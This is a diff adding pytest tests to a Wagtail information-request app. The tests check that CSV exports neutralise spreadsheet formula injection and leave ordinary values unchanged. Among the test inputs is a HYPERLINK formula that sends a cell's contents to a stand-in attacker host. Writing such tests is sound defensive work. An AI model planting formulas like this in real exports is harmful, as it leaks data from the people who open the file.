@@ -14,6 +14,7 @@ from wagtail.models import ModelLogEntry
 
 from tests import factories
 from wagtail_disclosure.requests import permissions, retention, services
+from wagtail_disclosure.requests.admin import InformationRequestViewSet
 from wagtail_disclosure.requests.choices import Status
 from wagtail_disclosure.requests.models import (
     InformationRequest,
@@ -192,6 +193,27 @@ def test_csv_export_full_for_a_permitted_viewer(client, full_viewer, request_obj
     rows = list(csv.reader(io.StringIO(_csv(response))))
     for value in PERSONAL:
         assert value in rows[1]
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1",
+                                   "-2+3", "@SUM(A1:A9)", "＝1+1"])
+def test_csv_export_neutralises_spreadsheet_formulas(client, full_viewer, request_obj, typed):
+    """Text the applicant typed is exported as text: a spreadsheet must not run it."""
+    request_obj.description = typed
+    request_obj.save(update_fields=["description"])
+    client.force_login(full_viewer)
+    rows = list(csv.reader(io.StringIO(_csv(client.get(LISTING + "?export=csv")))))
+    _heading, row = rows
+    assert row[InformationRequestViewSet.list_export.index("description")] == "'" + typed
+    # ordinary text and numbers are untouched
+    assert row[0] == request_obj.tracking_number
+
+
+def test_csv_formula_guard_leaves_ordinary_values_alone():
+    from wagtail_disclosure.requests.admin import neutralise_spreadsheet_formula
+
+    for value in ("2026-000001", "张*", "138****5555", 20, None, "描述 = 内容"):
+        assert neutralise_spreadsheet_formula(value) == value
 
 
 def test_xlsx_export_masks_for_a_viewer(client, viewer, request_obj):
